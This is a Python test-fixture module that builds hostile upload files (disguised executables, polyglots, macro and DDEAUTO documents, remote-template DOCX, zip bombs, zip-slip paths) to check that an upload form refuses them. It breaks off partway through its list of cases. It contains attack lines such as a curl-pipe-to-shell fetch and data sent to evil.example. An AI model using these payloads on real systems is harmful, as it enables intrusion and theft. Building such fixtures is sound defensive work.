"""A kit of files and names an attacker would try on an upload form, each built in memory when a test asks for it.

Nothing here is a committed binary: executables are only their headers (nothing runs), bombs are zeros deflated as
they are written, and the bigger builds are cached for the session.

``HOSTILE_FILES`` are contents (with an honest-looking name); ``HOSTILE_NAMES`` are names (sent with a valid PDF);
``multipart`` builds a request body byte for byte, as a browser or an attacker's script would, because Django's
test client rewrites file names (``os.path.basename``) and ``SimpleUploadedFile`` refuses some of them.
"""

import functools
import io
import struct
import warnings
import zipfile
from dataclasses import dataclass
from urllib.parse import quote

import olefile
from pypdf import PdfReader, PdfWriter

from tests.document_files import (
    CONTENT_TYPES,
    DOCUMENT,
    ODT_MANIFEST,
    PACKAGE_RELS,
    WORD_MACRO_MAIN,
    WORD_MAIN,
    doc,
    docx,
    fib,
    odt,
    pdf,
    pdf_file,
)

MIB = 1024 * 1024
OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ODT_MIMETYPE = b"application/vnd.oasis.opendocument.text"


# --- Executables, markup and script, each to be renamed .pdf, .docx... -----------------------------------------


def elf():
    """An ELF 64-bit x86-64 executable header (what `file` calls "ELF 64-bit LSB executable")."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header = struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return ident + header + b"\x48\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"  # exit(0)


def pe():
    """A Windows PE (MZ) header: the DOS stub pointing at a "PE\\0\\0" signature and an x86-64 COFF header."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 64)
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22)
    return bytes(dos) + coff + bytes(240)


def macho():
    """A 64-bit Mach-O executable header (MH_MAGIC_64, x86-64, MH_EXECUTE)."""
    return struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + bytes(4)


def macho_universal():
    """A universal ("fat") Mach-O header: big-endian 0xCAFEBABE, as Java class files also start."""
    return struct.pack(">II", 0xCAFEBABE, 1) + struct.pack(">iiIII", 0x01000007, 3, 4096, 4096, 12)


def shell_script():
    return b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n"


def html():
    return b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"


def html_with_bom():
    """HTML behind a UTF-8 byte order mark and white space, as content sniffers still recognise it."""
    return b"\xef\xbb\xbf \n\t<html><script>alert(1)</script></html>"


def svg():
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<script>alert(document.cookie)</script></svg>"
    )


def javascript():
    return b"fetch('/admin/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t));\n"


def zip_archive(entries=None):
    """A plain zip of ``entries`` (name, bytes); by default one HTML page."""
    entries = [("payload.html", html())] if entries is None else entries
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def ole2_not_word():
    """An OLE2 compound file without a "WordDocument" stream: an .msi or .xls renamed .doc."""
    return OLE2_MAGIC + bytes(512 - len(OLE2_MAGIC)) + "Workbook".encode("utf-16-le") + bytes(64)


# --- Polyglots: one file, two readings ---------------------------------------------------------------------------


def gifar():
    """A GIF whose tail is a Java archive: a browser sees an image, a JVM an applet."""
    gif = (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00"  # a 1x1 image, two colours
        b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    )
    return gif + zip_archive([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Evil\n")])


def pdf_then_zip():
    """A valid PDF with a zip (holding an HTML page) appended: a PDF to a reader, an archive to unzip."""
    return pdf() + zip_archive()


def pdf_carrying_a_zip():
    """A PDF whose last stream is a zip (holding an HTML page) whose end record's comment runs over the PDF's own
    cross-reference table and %%EOF: a PDF to a reader, an archive to unzip, and nothing after %%EOF."""
    archive = zip_archive()
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        b"<</Length %d>>\nstream\n%s\nendstream" % (len(archive), archive),
    ]
    content = bytearray(pdf_file(objects))
    return _zip_comment_to_the_end(content, content.index(archive) + len(archive))


def pdf_then_zip_then_its_end_again():
    """A PDF, a zip, then the PDF's "startxref" and %%EOF once more, which the zip's comment covers: nothing follows
    the last %%EOF."""
    document = pdf()
    end = b"\nstartxref\n%s%%%%EOF\n" % document.rsplit(b"startxref\n", 1)[1].split(b"%%EOF")[0]
    content = bytearray(document + zip_archive() + end)
    return _zip_comment_to_the_end(content, len(content) - len(end))


def _zip_comment_to_the_end(content, archive_end):
    """``content`` with the comment of the zip ending at ``archive_end`` (its end record has none) stretched to the
    end of the file, as zip readers expect of an archive's last bytes."""
    struct.pack_into("<H", content, archive_end - 2, len(content) - archive_end)
    return bytes(content)


def zip_then_pdf():
    """A zip first, a PDF after it: an archive by its first bytes, whatever a PDF reader would find later."""
    return zip_archive() + pdf()


def docx_behind_a_macro_docx():
    """A DOCX with macros, then a plain one: zip readers that start from the end (Word) see the plain one, those that
    stream from the start see the macros."""
    return docx_with_macro() + docx()


def docx_then_program():
    """A DOCX with a program joined after its end: an archive to Word, a program to whatever skips to the end."""
    return docx() + pe()


def odt_then_html():
    return odt() + html()


def pdf_header_html():
    """A PDF header in front of an HTML body: a PDF by its first bytes, a page to a browser that sniffs."""
    return b"%PDF-1.4\n" + html() + b"\n%%EOF\n"


# --- Documents that are what they say, with active content -------------------------------------------------------


def pdf_with_javascript():
    """A one-page PDF that runs JavaScript on opening (/OpenAction), from its name tree and on page open, and
    tries to launch a program (/Launch)."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/Names<</JavaScript 6 0 R>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/AA<</O 7 0 R>>>>",
        b"<</Length 44>>\nstream\nBT /F1 12 Tf 72 720 Td (Hello) Tj ET\n\nendstream",
        b"<</Type/Action/S/JavaScript/JS(app.alert\\(document.URL\\);this.submitForm\\('https://evil.example/'\\))>>",
        b"<</Names[(init) 5 0 R]>>",
        b"<</Type/Action/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
    ]
    return pdf_file(objects, version=b"1.7")


def docx_with_macro():
    """A DOCX carrying a VBA project (word/vbaProject.bin, an OLE2 file), declared macro-enabled: a .docm renamed."""
    content_types = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        b'<Override PartName="/word/document.xml" '
        b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("word/document.xml", '<?xml version="1.0"?><w:document/>')
        archive.writestr(
            "word/_rels/document.xml.rels",
            '<?xml version="1.0"?><Relationships><Relationship Id="rId9" '
            'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
            "</Relationships>",
        )
        archive.writestr("word/vbaProject.bin", OLE2_MAGIC + bytes(504) + b"Attribute VB_Name = AutoOpen" + bytes(64))
    return buffer.getvalue()


def docx_macro_enabled_named_docx():
    """A macro-enabled Word package (its main part says so) with no VBA file in it, named .docx."""
    return docx(main="application/vnd.ms-word.document.macroEnabled.main+xml")


def docx_with_activex():
    """A DOCX holding an ActiveX control part."""
    return docx([("word/activeX/activeX1.xml", '<?xml version="1.0"?><ax:ocx xmlns:ax="urn:x"/>')])


def docx_with_linked_image():
    """A DOCX whose picture is fetched from a remote server when the document is opened (a tracking pixel)."""
    return docx(relationships=[("image", "https://tracker.example/pixel.png", True)])


def docx_with_hyperlink():
    """A DOCX with an ordinary external hyperlink: nothing is fetched until a reader clicks."""
    return docx(relationships=[("hyperlink", "https://www.un.org/", True)])


def doc_with_macros():
    """A Word 97-2003 file holding a Macros storage next to its WordDocument stream."""
    return doc(("WordDocument", "Macros"))


def docx_with_password():
    """A DOCX saved with a password: Word writes a compound file holding the encrypted package (MS-OFFCRYPTO)."""
    return doc(("EncryptionInfo", "EncryptedPackage"))


# Where a Word 97-2003 file's text starts in its WordDocument stream: after the FIB that _doc_with_text writes.
DOC_TEXT_AT = 0x400
DOC_DDE = '\x13 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" \x14\x15'


def _doc_with_text(*pieces, table_stream="1Table"):
    """A Word 97-2003 file whose text is ``pieces``, (text, wide) pairs: each stored in the WordDocument stream as
    8-bit text or, when ``wide``, UTF-16LE, and listed in that order by the piece table (MS-DOC 2.9.38, Clx) of the
    table stream the FIB names, 1Table (the file's table goes in ``table_stream``)."""
    words, places, ends = b"", [], [0]
    for text, wide in pieces:
        at = DOC_TEXT_AT + len(words)
        places.append(at if wide else at * 2 | 0x40000000)  # FcCompressed: 8-bit text is at half the value
        words += text.encode("utf-16-le" if wide else "cp1252")
        ends.append(ends[-1] + len(text))
    table = struct.pack(f"<{len(ends)}I", *ends) + b"".join(struct.pack("<HIH", 0, fc, 0) for fc in places)
    clx = b"\x02" + struct.pack("<I", len(table)) + table
    # The FIB: FibBase (fWhichTblStm set: 1Table), 14 words, 22 longs (ccpText the 4th), then 93 offset and length
    # pairs, fcClx and lcbClx the 34th.
    longs, pairs = [0] * 22, [0] * 186
    longs[3], pairs[66:68] = ends[-1], (0, len(clx))
    word = fib(0x0200).ljust(32, b"\0") + struct.pack("<H28xH22IH186I", 14, 22, *longs, 93, *pairs)
    content = io.BytesIO(doc(("WordDocument", table_stream)))
    with olefile.OleFileIO(content, write_mode=True) as ole:
        for name, data in (("WordDocument", word.ljust(DOC_TEXT_AT, b"\0") + words), (table_stream, clx)):
            ole.write_stream(name, data.ljust(ole.get_size(name), b"\0"))
    return content.getvalue()


def doc_with_dde():
    """A Word 97-2003 file whose text holds the DDEAUTO field, stored as 8-bit text."""
    return _doc_with_text((f"Budget 2025\r{DOC_DDE}\r", False))


def doc_with_dde_in_wide_text():
    """The field in lower case, in text stored as UTF-16LE (Word's choice for text beyond one code page)."""
    return _doc_with_text((f"Бюджет 2025\r{DOC_DDE.replace('DDEAUTO', 'ddeauto')}\r", True))


def doc_with_dde_over_two_pieces():
    """The field's kind cut between an 8-bit piece ("DD") and a UTF-16LE one ("EAUTO..."), as an edit leaves it."""
    return _doc_with_text(("Budget\r\x13 DD", False), (DOC_DDE.removeprefix("\x13 DD") + "\r", True))


def doc_with_dde_spelled_by_a_nested_field():
    """DDEAUTO spelled by a nested QUOTE field of character codes, as in docx_with_dde_spelled_by_a_nested_field."""
    return _doc_with_text(
        (DOC_DDE.replace(" DDEAUTO", "\x13 QUOTE 68 68 69 65 85 84 79 \x14DDEAUTO\x15") + "\r", False)
    )


def doc_with_dde_out_of_its_piece_table():
    """The field in a file whose piece table is not where its FIB says (in 0Table, not 1Table): the text cannot be
    found, so the whole WordDocument stream counts."""
    return _doc_with_text((f"Budget\r{DOC_DDE}\r", True), table_stream="0Table")


def doc_with_fields():
    """A Word 97-2003 file with everyday fields (a page number, a link whose address holds "DDE", an IF comparing a
    merge field) in 8-bit and in UTF-16LE text."""
    return _doc_with_text(
        ('Page \x13 PAGE \x14 1\x15, see \x13 HYPERLINK "https://www.un.org/ODDE.doc" \x14the report\x15.\r', False),
        ('Résumé \x13 IF \x13 MERGEFIELD Country \x14\x15 = "France" "Madame" "Dear" \x14Dear\x15 — 2025\r', True),
    )


def doc_with_password():
    """A Word 97-2003 file saved with a password: its FibBase says so (fEncrypted); its text cannot be read."""
    return doc(fib_flags=0x0100)


def pdf_with_password():
    """A PDF that opens only with a password (RC4, which pypdf writes without a cryptography library)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def odt_with_macro():
    """An ODT carrying a Basic macro library."""
    return odt([("Basic/Standard/Module1.xml", "<script:module/>")])


# A field that starts a program when the document opens (DDEAUTO, the 2017 attack): no macro needed.
DDE_FIELD = "<w:fldSimple w:instr=' DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc.exe\" '/>"
WORD_NAMESPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
FOOTER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"
DDE_FOOTER = f"<w:ftr {WORD_NAMESPACE}><w:p>{DDE_FIELD}</w:p></w:ftr>"


def docx_with_dde():
    """A DOCX whose document holds the DDEAUTO field."""
    return docx([("word/document.xml", DOCUMENT.replace("<w:p>", f"<w:p>{DDE_FIELD}"))])


def docx_with_alt_chunk():
    """A DOCX importing a web page through an altChunk: Word converts the page and inserts it in the text, out of
    reach of the checks of the document's own parts."""
    chunk = '<w:altChunk r:id="rId10" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
    return docx(
        [
            ("word/document.xml", DOCUMENT.replace("</w:body>", f"{chunk}</w:body>")),
            ("word/afchunk.htm", html()),
        ],
        relationships=[("aFChunk", "afchunk.htm", False)],
    )


def docx_with_dde_in_a_main_part_not_named_xml():
    """The field in a main part named "word/document.dat": a package finds its parts by the types it declares and
    by their relationships, not by how their names end."""
    return zip_archive(
        [
            ("[Content_Types].xml", CONTENT_TYPES.format(main=WORD_MAIN).replace("document.xml", "document.dat")),
            ("_rels/.rels", PACKAGE_RELS.replace("document.xml", "document.dat")),
            ("word/document.dat", DOCUMENT.replace("<w:p>", f"<w:p>{DDE_FIELD}")),
        ]
    )


def _docx_with_footer(name, footer, *, declared=""):
    """A DOCX whose page shows the footer part ``word/<name>``, its type declared by ``declared`` (an Override or
    a Default of [Content_Types].xml) or not at all."""
    reference = (
        '<w:sectPr><w:footerReference w:type="default" r:id="rId10" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:sectPr>'
    )
    return docx(
        [
            ("[Content_Types].xml", CONTENT_TYPES.format(main=WORD_MAIN).replace("</Types>", f"{declared}</Types>")),
            ("word/document.xml", DOCUMENT.replace("</w:body>", f"{reference}</w:body>")),
            (f"word/{name}", footer),
        ],
        relationships=[("footer", name, False)],
    )


def docx_with_dde_in_a_footer_named_bin():
    """The field in a footer named "footer1.bin", typed by an Override."""
    declared = f'<Override PartName="/word/footer1.bin" ContentType="{FOOTER_TYPE}"/>'
    return _docx_with_footer("footer1.bin", DDE_FOOTER, declared=declared)


def docx_with_dde_in_a_footer_typed_by_extension():
    """The field in a footer named "footer1.dat", typed by a Default for every ".dat" part."""
    return _docx_with_footer(
        "footer1.dat", DDE_FOOTER, declared=f'<Default Extension="dat" ContentType="{FOOTER_TYPE}"/>'
    )


def docx_with_dde_in_an_untyped_footer():
    """The field in a footer named "footer1", which no type declares: only its relationship makes it a footer."""
    return _docx_with_footer("footer1", DDE_FOOTER)


def docx_with_an_unreadable_footer_not_named_xml():
    """A footer, found by its relationship, that is not XML: broken, or written for a reader other than ours."""
    return _docx_with_footer("footer1", b"\x00\x01 not a footer \xff")


def docx_with_dde_in_a_stray_part():
    """The field in a part that nothing declares or points to, which a lenient reader may still take up."""
    return docx([("word/notes", DDE_FOOTER)])


def docx_with_split_dde_in_footer():
    """The same field in a footer, its instruction split over two runs as Word writes it after an edit."""
    footer = (
        '<w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
        '<w:r><w:instrText>E cmd "/c calc" x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        "</w:p></w:ftr>"
    )
    return docx([("word/footer1.xml", footer)])


def docx_with_nested_dde():
    """A DDE field inside an IF field, as obfuscated documents hide it."""
    runs = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd "/c calc" x</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return docx([("word/document.xml", DOCUMENT.replace("<w:p>", f"<w:p>{runs}"))])


def _complex_field(*pieces):
    """A field in the runs Word writes: a begin mark, its instruction (``pieces``: text, or other fields' runs
    nested in it), then its end mark."""
    instruction = "".join(
        piece if piece.startswith("<w:r>") else f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
        for piece in pieces
    )
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{instruction}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def _docx_with_runs(runs):
    return docx([("word/document.xml", DOCUMENT.replace("<w:p>", f"<w:p>{runs}"))])


def docx_with_dde_spelled_by_a_nested_field():
    """DDEAUTO spelled by a nested QUOTE field of character codes, a published disguise of the 2017 attack: the
    outer field's own text is only the command."""
    quote_field = _complex_field(" QUOTE 68 68 69 65 85 84 79 ")
    return _docx_with_runs(_complex_field(quote_field, ' c:\\windows\\system32\\cmd.exe "/k calc.exe" '))


def docx_with_dde_spelled_around_a_nested_field():
    """A field whose kind is written "DD", then a nested field that gives "E", then "AUTO"."""
    return _docx_with_runs(_complex_field("DD", _complex_field(" QUOTE 69 "), 'AUTO cmd "/c calc" x'))


def docx_with_nested_fields():
    """A DOCX with everyday nested fields: an IF comparing a merge field, and a table of contents whose entries
    hold page references."""
    condition = _complex_field(" IF ", _complex_field(" MERGEFIELD Country "), ' = "France" "Madame" "Dear" ')
    page = _complex_field(" PAGEREF _Toc1 \\h ")
    contents = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> TOC \\o "1-3" \\h </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Introduction </w:t></w:r>'
        f'{page}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return _docx_with_runs(condition + contents)


def docx_with_images():
    """A DOCX with a PNG and an SVG picture (the SVG with the DOCTYPE that drawing programs write), each typed by a
    Default of [Content_Types].xml."""
    declared = (
        '<Default Extension="png" ContentType="image/png"/><Default Extension="svg" ContentType="image/svg+xml"/>'
    )
    svg_picture = (
        '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg" width="1" '
        'height="1"/>'
    )
    return docx(
        [
            ("[Content_Types].xml", CONTENT_TYPES.format(main=WORD_MAIN).replace("</Types>", f"{declared}</Types>")),
            ("word/media/image1.png", b"\x89PNG\r\n\x1a\n" + bytes(64)),
            ("word/media/image2.svg", svg_picture),
        ],
        relationships=[("image", "media/image1.png", False), ("image", "media/image2.svg", False)],
    )


def docx_with_fields():
    """A DOCX with everyday fields (a page number, a date, links) whose addresses hold "DDE": none runs a command."""
    fields = (
        '<w:fldSimple w:instr=" PAGE "/><w:fldSimple w:instr=\' DATE \\@ "d MMMM yyyy" \'/>'
        "<w:fldSimple w:instr=' HYPERLINK \"https://www.un.org/ODDE.docx\" '/>"
        "<w:fldSimple w:instr=' INCLUDEPICTURE \"https://www.un.org/DDE/logo.png\" '/>"
    )
    return docx([("word/document.xml", DOCUMENT.replace("<w:p>", f"<w:p>{fields}"))])


SCRIPT_NAMESPACE = 'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'


def odt_with_script_event():
    """An ODT whose link runs a Python script of LibreOffice itself on mouse-over (CVE-2018-16858): no macro."""
    return odt(
        body=f'<text:p {SCRIPT_NAMESPACE}><text:a xlink:type="simple" xlink:href="https://www.un.org/">'
        '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:mouseover" '
        'xlink:href="vnd.sun.star.script:pydoc.py$tempfilepager(1, calc.exe )?language=Python&amp;location=share" '
        'xlink:type="simple"/></office:event-listeners>Read more</text:a></text:p>'
    )


def odt_with_script_link():
    """An ODT whose link, once clicked, runs a macro of the office suite."""
    return odt(
        body='<text:p><text:a xlink:type="simple" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application">'
        "Read more</text:a></text:p>"
    )


def odt_with_dde_link():
    """An ODT whose section is fed by a DDE link to "cmd": updating the link starts the program."""
    return odt(
        body='<text:dde-connection-decls><text:dde-connection-decl office:name="x" office:dde-application="cmd" '
        'office:dde-topic="/c calc.exe" office:dde-item="x" office:automatic-update="true"/>'
        "</text:dde-connection-decls>"
    )


def odt_with_script_in_embedded_object():
    """An ODT embedding an object whose own content binds an event to a script."""
    return odt(
        [
            (
                "Object 1/content.xml",
                '<?xml version="1.0"?><office:document-content '
                'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                f'{SCRIPT_NAMESPACE} xmlns:xlink="http://www.w3.org/1999/xlink"><office:event-listeners>'
                '<script:event-listener script:event-name="dom:load" '
                'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application"/>'
                "</office:event-listeners></office:document-content>",
            )
        ]
    )


def odt_with_password():
    """An ODT saved with a password: its content is encrypted, as the manifest's encryption data says."""
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="812">'
        '<manifest:encryption-data manifest:checksum-type="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0'
        '#sha256-1k" manifest:checksum="b5Z3mD2Vx4o="><manifest:algorithm manifest:algorithm-name='
        '"http://www.w3.org/2001/04/xmlenc#aes256-cbc" manifest:initialisation-vector="c2VjcmV0aXY="/>'
        "</manifest:encryption-data></manifest:file-entry></manifest:manifest>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", ODT_MIMETYPE, compress_type=zipfile.ZIP_STORED)
        archive.writestr("META-INF/manifest.xml", manifest)
        archive.writestr("content.xml", bytes(range(256)) * 3)  # what encrypted content looks like: no XML
    return buffer.getvalue()


def docx_with_remote_template_in_capitals():
    """A DOCX fetching a remote template from a relationships part whose name ends in capitals (".RELS")."""
    return docx(
        [
            (
                "word/_rels/settings.xml.RELS",
                '<?xml version="1.0"?><Relationships><Relationship Id="rId1" '
                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                'Target="https://evil.example/template.dotm" TargetMode="External"/></Relationships>',
            )
        ]
    )


def docx_with_ole_package():
    """A DOCX embedding an OLE object (an "oleObject1.bin" compound file): a packaged program shown as an icon."""
    return docx([("word/embeddings/oleObject1.bin", doc(("\x01Ole10Native",)))])


def doc_with_object_pool():
    """A Word 97-2003 file with an ObjectPool: the OLE objects it embeds."""
    return doc(("WordDocument", "ObjectPool"))


def odt_with_ole_object():
    """An ODT embedding an OLE object, as its manifest declares it."""
    manifest = ODT_MANIFEST.replace(
        "</manifest:manifest>",
        '<manifest:file-entry manifest:full-path="Object 1" manifest:media-type="application/vnd.sun.star.oleobject"/>'
        "</manifest:manifest>",
    )
    return odt([("META-INF/manifest.xml", manifest), ("Object 1", doc(("\x01Ole10Native",)))])


def odt_with_remote_image():
    """An ODT whose image is fetched from a remote server."""
    return odt(body='<draw:frame><draw:image xlink:href="https://tracker.example/pixel.png"/></draw:frame>')


def pdf_with_embedded_file():
    """A PDF carrying an attached file in its name tree (/EmbeddedFiles)."""
    return pdf(catalog=b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<<>>>>]>>>>")


def pdf_with_xfa():
    """A PDF with an XFA form (scriptable forms that some readers run)."""
    return pdf(catalog=b"/AcroForm<</Fields[]/XFA(<xdp:xdp/>)>>")


def pdf_only_header():
    """A file that begins like a PDF and is nothing more."""
    return b"%PDF-1.7\n" + b"not really a document\n" * 20


def docx_with_remote_template():
    """A DOCX whose relationships fetch a remote template (the route of the "Follina" attack)."""
    return docx(
        [
            (
                "word/_rels/document.xml.rels",
                '<?xml version="1.0"?><Relationships><Relationship Id="rId1" '
                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
                'Target="mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html" TargetMode="External"/>'
                "</Relationships>",
            )
        ]
    )


# --- Archives that are dangerous to open -------------------------------------------------------------------------


def _zeros_entry(archive, name, mebibytes):
    with archive.open(name, "w") as entry:
        block = bytes(MIB)
        for _ in range(mebibytes):
            entry.write(block)


@functools.cache
def odt_bomb(mebibytes=50):
    """An ODT (stored mimetype first, as ODF requires) with ``mebibytes`` MiB of zeros: about 1 KiB per MiB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", ODT_MIMETYPE, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
        archive.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest:manifest/>')
        _zeros_entry(archive, "Pictures/image1.png", mebibytes)
    return buffer.getvalue()


@functools.cache
def docx_bomb(mebibytes=50):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", '<?xml version="1.0"?><w:document/>')
        _zeros_entry(archive, "word/media/image1.png", mebibytes)
    return buffer.getvalue()


def docx_nesting_a_zip():
    return docx([("word/media/inner.zip", zip_archive())])


def odt_nesting_a_disguised_zip():
    """An archive inside an ODT, under an image's name."""
    return odt([("Pictures/photo.png", zip_archive())])


def zip_of_documents():
    """A plain zip of Word files (nested archives), named .docx."""
    return zip_archive([("a.docx", docx()), ("b.docx", docx())])


def docx_zip_slip():
    return docx([("../../../../tmp/evil.sh", b"#!/bin/sh\n")])


def docx_zip_slip_windows():
    """Traversal with backslashes, the separator of Windows' extractors."""
    return docx([("..\\..\\..\\Users\\Public\\evil.bat", b"calc.exe\r\n")])


def docx_zip_slip_drive():
    return docx([("C:/Windows/Temp/evil.bat", b"calc.exe\r\n")])


def docx_with_duplicate_part():
    """A DOCX whose first [Content_Types].xml declares macros and whose second, the one zipfile reads, does not."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=WORD_MACRO_MAIN))
        archive.writestr("_rels/.rels", PACKAGE_RELS)
        archive.writestr("word/document.xml", DOCUMENT)
        archive.writestr("word/vbaProject.bin", OLE2_MAGIC + bytes(504))
        with warnings.catch_warnings(action="ignore", category=UserWarning):  # zipfile's "Duplicate name"
            archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=WORD_MAIN))
    return buffer.getvalue()


def docx_with_part_twice_in_two_cases():
    """A DOCX with a second document part under the same name in other capitals, the same part to Word."""
    return docx([("WORD/DOCUMENT.XML", DOCUMENT.replace("A written submission", "Another text"))])


def docx_with_nameless_entry():
    """A DOCX with an entry whose name is empty (zipfile will not write one): the one-letter name of its last entry
    becomes a one-byte "extra field", in its local header and in its directory record."""
    content = bytearray(docx([("x", b"x")]))
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        local = archive.getinfo("x").header_offset
    struct.pack_into("<HH", content, local + 26, 0, 1)  # file name length, extra field length
    record = content.rindex(b"PK\x01\x02")  # the last directory record is the entry's
    struct.pack_into("<HH", content, record + 28, 0, 1)
    return bytes(content)


def docx_with_corrupt_data():
    """A DOCX whose directory is sound but whose document part does not inflate (a damaged download, or bait)."""
    content = bytearray(docx([("word/styles.xml", "<w:styles/>" * 200)]))
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        info = archive.getinfo("word/document.xml")
    start = info.header_offset + 30 + len(info.filename.encode())  # the entry's data, after its local header
    content[start : start + 4] = b"\xff\xff\xff\xff"  # an invalid deflate block type
    return bytes(content)


def docx_truncated():
    content = docx([("word/styles.xml", "<w:styles/>" * 200)])
    return content[: len(content) // 2]


# --- Sizes ---------------------------------------------------------------------------------------------------------


def empty():
    return b""


# --- The kit -------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    key: str
    name: str
    build: object  # a function of no arguments returning the content
    refusal: str | None = None  # the form error's code; None when the file is a real document, to be stored inert
    kind: str | None = None  # the kind it is accepted as

    @property
    def content(self):
        return self.build()

    def __str__(self):
        return self.key


HOSTILE_FILES = [
    # Refused: not a document, whatever the name says.
    Hostile("elf-as-pdf", "report.pdf", elf, "wrong_type"),
    Hostile("pe-as-pdf", "report.pdf", pe, "wrong_type"),
